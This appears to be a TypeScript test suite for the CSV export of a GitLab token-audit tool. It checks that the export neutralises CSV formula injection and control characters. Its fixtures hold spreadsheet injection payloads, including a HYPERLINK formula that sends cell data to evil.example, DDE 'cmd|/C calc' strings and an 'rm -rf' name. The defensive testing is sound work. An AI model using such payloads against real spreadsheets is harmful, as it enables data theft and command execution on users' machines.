/**
 * `audit --format csv`: the token table for a spreadsheet. Parsed back with Python's csv module (the
 * reader spreadsheet scripts use), values with commas, quotes and line breaks come back whole, and
 * a value a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, carriage return first) comes
 * back prefixed with `'`, as OWASP advises against CSV injection.
 */
import { execFileSync } from 'node:child_process';
import { CSV_COLUMNS, csvField, formatCsv } from '../../src/audit/csv.js';
import type { TokenRow } from '../../src/audit/types.js';
import type { Scenario } from '../../src/standin/model.js';
import { startStandin } from '../../src/standin/server.js';
import { runCli } from '../helpers/cli.js';

/** Python's csv.reader over the text, as rows of strings. */
function parse(csv: string): string[][] {
  const py =
    'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))';
  return JSON.parse(execFileSync('python3', ['-c', py], { input: csv, encoding: 'utf8' })) as string[][];
}

const row = (over: Partial<TokenRow>): TokenRow => ({
  level: 'project',
  owner: 'acme/app',
  id: 1,
  name: 'gitlab-deploy-token',
  username: 'gitlab+deploy-token-1',
  scopes: ['read_registry'],
  expiresAt: '2027-03-02T00:00:00.000Z',
  active: true,
  state: 'active',
  ...over,
});

test('hostile values: commas, quotes and line breaks whole; formulas inert; control characters made visible', () => {
  const names = [
    'a, "quoted", name',
    'two\nlines',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    '-2',
    '@SUM(A1:A9)',
    '\t=tab first',
    '\r=cr first',
    '\u001b[31mred\u001b[0m \u202eoverride',
    'plain-name',
  ];
  const tokens = names.map((name, i) => row({ id: i + 1, name, username: i === 4 ? '-dash-user' : `u${i}` }));
  tokens.push(
    row({
      id: 99,
      scopes: ['read_registry', 'write_registry'],
      expiresAt: null,
      active: false,
      state: 'revoked',
    }),
  );
  const csv = formatCsv({ tokens, findings: [] });
  expect(csv.endsWith('\n')).toBe(true);
  expect(csv).not.toContain('\r');
  const rows = parse(csv);
  expect(rows[0]).toEqual([...CSV_COLUMNS]);
  expect(rows.slice(1).map((r) => r[3])).toEqual([
    'a, "quoted", name',
    'two\nlines',
    `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
    `'+1+cmd|' /C calc'!A0`,
    `'-2`,
    `'@SUM(A1:A9)`,
    ' =tab first',
    ' =cr first',
    '?[31mred?[0m ?override',
    'plain-name',
    'gitlab-deploy-token',
  ]);
  expect(rows[5]?.[4]).toBe(`'-dash-user`);
  expect(rows[11]).toEqual([
    'project',
    'acme/app',
    '99',
    'gitlab-deploy-token',
    'gitlab+deploy-token-1',
    'read_registry,write_registry',
    '',
    'false',
    'revoked',
  ]);
  expect(rows).toHaveLength(tokens.length + 1);
});

test('every field is quoted, quotes doubled (RFC 4180)', () => {
  expect(csvField('x')).toBe('"x"');
  expect(csvField('say "hi"')).toBe('"say ""hi"""');
  expect(csvField('=1')).toBe(`"'=1"`);
  expect(formatCsv({ tokens: [], findings: [] })).toBe(`${CSV_COLUMNS.map((c) => `"${c}"`).join(',')}\n`);
});

test('through the CLI: the rows of --format json, one a token, with hostile names from GitLab', async () => {
  const sc: Scenario = {
    name: 'csv',
    title: 'csv',
    description: '',
    version: '17.5.1-ee',
    apiTokens: ['glpat-csvCsvCsvCsvCsv0001'],
    groups: [
      {
        id: 1,
        full_path: 'sheet',
        parent_id: null,
        tokens: [
          {
            id: 11,
            name: '=cmd|"/c calc"!A1, "x"',
            expires: '+10d',
            scopes: ['read_registry'],
            token: 'gldt-Csv11Csv11Csv11Csv',
          },
          {
            id: 12,
            name: '@evil',
            username: 'robot-12',
            expires: null,
            scopes: ['read_repository', 'read_registry'],
            token: 'gldt-Csv12Csv12Csv12Csv',
          },
        ],
      },
    ],
    projects: [
      {
        id: 21,
        path_with_namespace: 'sheet/app',
        namespace_id: 1,
        tokens: [
          {
            id: 13,
            name: '-rm -rf, "now"',
            expires: '-1d',
            scopes: ['read_registry'],
            token: 'gldt-Csv13Csv13Csv13Csv',
          },
        ],
      },
    ],
    project: 'sheet/app',
  };
  const s = await startStandin(sc, { now: () => new Date('2026-11-25T10:00:00Z') });
  try {
    const args = ['audit', '--group', 'sheet', '--gitlab-url', s.url];
    const env = { GITLAB_TOKEN: 'glpat-csvCsvCsvCsvCsv0001' };
    const opts = { now: new Date('2026-11-25T10:00:00Z') };
    const csv = await runCli([...args, '--format', 'csv'], env, opts);
    const json = await runCli([...args, '--format', 'json'], env, opts);
    expect(csv.code).toBe(json.code);
    const tokens = (
      JSON.parse(json.stdout) as { tokens: (Omit<TokenRow, 'expiresAt'> & { expires_at: string | null })[] }
    ).tokens;
    const inert = (v: string) => (/^[=+\-@]/.test(v) ? `'${v}` : v);
    expect(parse(csv.stdout)).toEqual([
      [...CSV_COLUMNS],
      ...tokens.map((t) => [
        t.level,
        inert(t.owner),
        String(t.id),
        inert(t.name),
        inert(t.username),
        t.scopes.join(','),
        t.expires_at ?? '',
        String(t.active),
        t.state,
      ]),
    ]);
    expect(parse(csv.stdout).map((r) => r[3])).toEqual([
      'name',
      `'=cmd|"/c calc"!A1, "x"`,
      `'@evil`,
      `'-rm -rf, "now"`,
    ]);
  } finally {
    await s.close();
  }
});
